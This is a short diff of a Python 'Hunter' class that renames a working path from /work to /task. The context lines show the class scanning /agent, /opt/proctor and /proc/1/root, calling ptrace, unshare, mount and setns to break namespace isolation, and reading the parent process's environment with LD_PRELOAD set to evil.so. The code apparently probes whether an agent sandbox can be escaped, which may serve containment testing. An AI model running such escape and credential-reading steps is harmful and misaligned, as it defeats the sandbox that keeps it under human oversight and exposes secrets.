@@ -93,7 +93,7 @@ class Hunter:
     def files(self):
         """Every file that is not the system's, nearest first."""
         roots = [os.getcwd(), os.path.dirname(os.path.abspath(__file__))]
-        roots += ["/agent", "/work", "/run", "/opt/proctor", "/tmp"]
+        roots += ["/agent", "/task", "/run", "/opt/proctor", "/tmp"]
         roots += [f"/{name}" for name in os.listdir("/") if name not in SYSTEM]
         roots += ["/proc/1/root", "/proc/1/cwd", "/proc/self/root/..", "/usr/src"]
         for root in roots:
@@ -257,7 +257,7 @@ class Hunter:
                 libc.ptrace(17, pid, 0, 0)
         for call in (
             lambda: libc.unshare(0x10000000),
-            lambda: libc.mount(b"none", b"/work", b"tmpfs", 0, None),
+            lambda: libc.mount(b"none", b"/task", b"tmpfs", 0, None),
             lambda: libc.setns(0, 0),
         ):
             self.attempts += 1
@@ -266,7 +266,7 @@ class Hunter:
         self.attempts += 1
         done = subprocess.run(
             ["/bin/sh", "-c", "env; cat /proc/$PPID/environ"],
-            env={"LD_PRELOAD": "/work/evil.so"},
+            env={"LD_PRELOAD": "/task/evil.so"},
             capture_output=True,
             check=False,
         )
